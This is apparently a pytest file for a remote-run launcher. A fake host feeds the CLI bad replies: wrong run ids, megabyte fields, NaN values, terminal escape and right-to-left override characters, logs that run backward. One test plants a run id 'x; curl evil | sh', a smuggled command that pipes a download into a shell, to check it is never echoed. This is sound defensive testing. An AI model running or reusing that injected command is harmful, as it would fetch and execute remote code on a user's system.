"""A host that tells anything about runs: nothing of it ends in a traceback, a hang, or a command nobody should copy."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from launcher.progress import LogPiece, Note, Progress
from launcher.watch import follow
from remote import runs
from remote.agent import Agent
from remote.embedded import EmbeddedHost
from remote.errors import BadReply
from remote.onhost.frames import message
from tests.conftest import Cli
from tests.connected import connect, folder_of_programs
from tests.test_ps import remember, write_host

pytestmark = pytest.mark.skipif(os.name == "nt", reason="needs POSIX")

RUN_ID = "toy-k3x7q2mh"
OTHER = "toy-aaaaaaaa"
FAKE = """#!/bin/sh
case $2 in -c) cat >/dev/null; echo "$0"; exit 0 ;; esac
[ -e "{folder}/$3" ] && word=$3 || word=reply
printf '\\n@launch %s ' "$4"
exec cat "{folder}/$word"
"""
TOOLS = ("sh", "mkdir", "cat", "head", "uname", "ln", "mv", "rm")


def row(**fields: Any) -> dict[str, Any]:
    return {"run_id": RUN_ID, "state": "running", "reason": "", "name": "toy", "age_s": 1, "run_age_s": 2} | fields


class Host:
    """It says to every verb what it was told to say."""

    def __init__(self, folder: Path, agent: Agent) -> None:
        self.agent = agent
        self._folder = folder

    def replies(self, **reply: Any) -> None:
        (self._folder / "reply").write_text(f"reply {json.dumps(reply)}\n")

    def streams(self, *messages: bytes) -> None:
        (self._folder / "follow").write_bytes(b"stream {}\n" + b"".join(messages))


@pytest.fixture
def host(cli: Cli, tmp_path: Path) -> Iterator[Host]:
    folder = tmp_path / "liar"
    folder.mkdir()
    programs = folder_of_programs(folder / "bin", *TOOLS)
    (programs / "python3").write_text(FAKE.format(folder=folder))
    (programs / "python3").chmod(0o755)
    with EmbeddedHost(folder / "home", env={"PATH": str(programs)}) as server, connect(server) as connected:
        write_host(cli, "box", login=server.login_line, known_hosts=str(server.known_hosts_file))
        remember(cli, RUN_ID, "box", state="running")
        yield Host(folder, Agent(connected))


def test_answers_about_other_runs_are_no_answers(cli: Cli, host: Host) -> None:
    for rows in ([row(run_id=OTHER)], [], [row(), row()], [row(), row(run_id=OTHER)]):
        host.replies(runs=rows, run=row(run_id=OTHER, state="succeeded"), left=[], gpu_left=[], checkpoints=[])
        with pytest.raises(BadReply):
            runs.state(host.agent, RUN_ID)
    questions: list[Callable[[Agent, str], object]] = [runs.stop, runs.fuse, runs.checkpoints]
    for question in questions:
        with pytest.raises(BadReply):
            question(host.agent, RUN_ID)
    for command in ("pull", "retry", "stop"):
        refused = cli(command, RUN_ID, "--json")
        assert refused.error["code"] in ("host_reply_invalid", "run_unknown"), command
        assert "Traceback" not in refused.stderr
    host.streams(message({"begin": 0, "age_s": 1, "files": []}), message({"state": row(run_id=OTHER)}))
    with pytest.raises(BadReply):
        list(runs.follow(host.agent, RUN_ID))


def test_no_command_to_copy_has_a_hosts_own_words(cli: Cli, host: Host) -> None:
    host.replies(runs=[row(run_id="x; curl evil | sh")], host={"live": [], "logins": 0, "gpu_pids": [], "uptime_s": 1})
    listed = cli("ps", "--host", "box")
    assert listed.status == 1
    assert "evil" not in listed.stdout + listed.stderr


def test_megabytes_and_absurd_figures_are_shown_at_once(cli: Cli, host: Host) -> None:
    odd = row(
        reason="[red]\x1b[2J\u202e" + "x" * 6_000_000, name="n" * 1_000_000, position=1e308, fuse_left_s=1e308,
        age_s=float("nan"), run_age_s=float("inf"), beat_age_s=-1e308, fuse="armed",
    )  # fmt: skip
    host.replies(runs=[odd], host={"live": [], "logins": 0, "gpu_pids": [], "uptime_s": float("nan")})
    for argv in (["ps"], ["ps", "--host", "box"], ["ps", "--json"], ["fuse", "show", "--host", "box"]):
        started = time.monotonic()
        shown = cli(*argv)
        assert time.monotonic() - started < 5
        assert shown.status == 0, shown.stderr[-500:]
        assert len(shown.stdout) < 5000
        assert not {"\x1b", "\u202e"} & set(shown.stdout)
        assert "NaN" not in shown.stdout
        assert "Infinity" not in shown.stdout


def test_an_event_of_megabytes_is_a_line(cli: Cli, host: Host) -> None:
    event = json.dumps({"type": "warning", "message": "w" * 5_000_000})
    host.streams(
        message({"begin": 0, "age_s": 1, "files": []}),
        message({"event": event, "offset": 1}),
        message({"state": row(state="succeeded")}),
    )
    host.replies(runs=[row(state="succeeded")])
    shown = cli("logs", RUN_ID, "-f")
    assert shown.status == 0
    assert "launch: warning: www" in shown.stderr
    assert len(shown.stderr) < 5000


def test_a_log_that_goes_back_is_refused(host: Host) -> None:
    host.streams(message({"begin": 100, "age_s": 1, "files": []}), message({"gap": 100, "offset": 5}))
    with pytest.raises(BadReply):
        list(runs.follow(host.agent, RUN_ID))


@pytest.mark.slow
def test_a_host_that_begins_and_never_goes_on_is_given_up(host: Host) -> None:
    host.streams(message({"begin": 0, "age_s": 1, "files": []}), message({"nonsense": 1}))
    told: list[Progress] = []
    with pytest.raises(BadReply):
        follow(RUN_ID, host.agent, told.append, once=True)
    assert sum("trying again" in one.text for one in told if isinstance(one, Note)) == 4
    assert not any(isinstance(one, LogPiece) for one in told)
